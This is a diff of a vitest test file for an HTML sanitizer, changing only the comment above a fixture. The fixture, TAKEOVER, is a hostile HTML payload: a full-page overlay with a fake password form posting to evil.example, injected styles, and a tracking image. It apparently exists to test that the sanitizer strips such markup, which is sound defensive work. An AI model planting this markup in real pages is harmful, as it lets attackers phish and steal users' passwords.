@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { type HtmlPolicy, sanitizeHtml } from './sanitize-html';
 
-/** The review of issue 11: covers the page, restyles the shop, posts the password away, loads a tracker. */
+/** A review written to take over the page: covers the page, restyles the shop, posts the password away, loads a tracker. */
 const TAKEOVER =
   '<div style="position:fixed;inset:0;background:#fff;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';
 
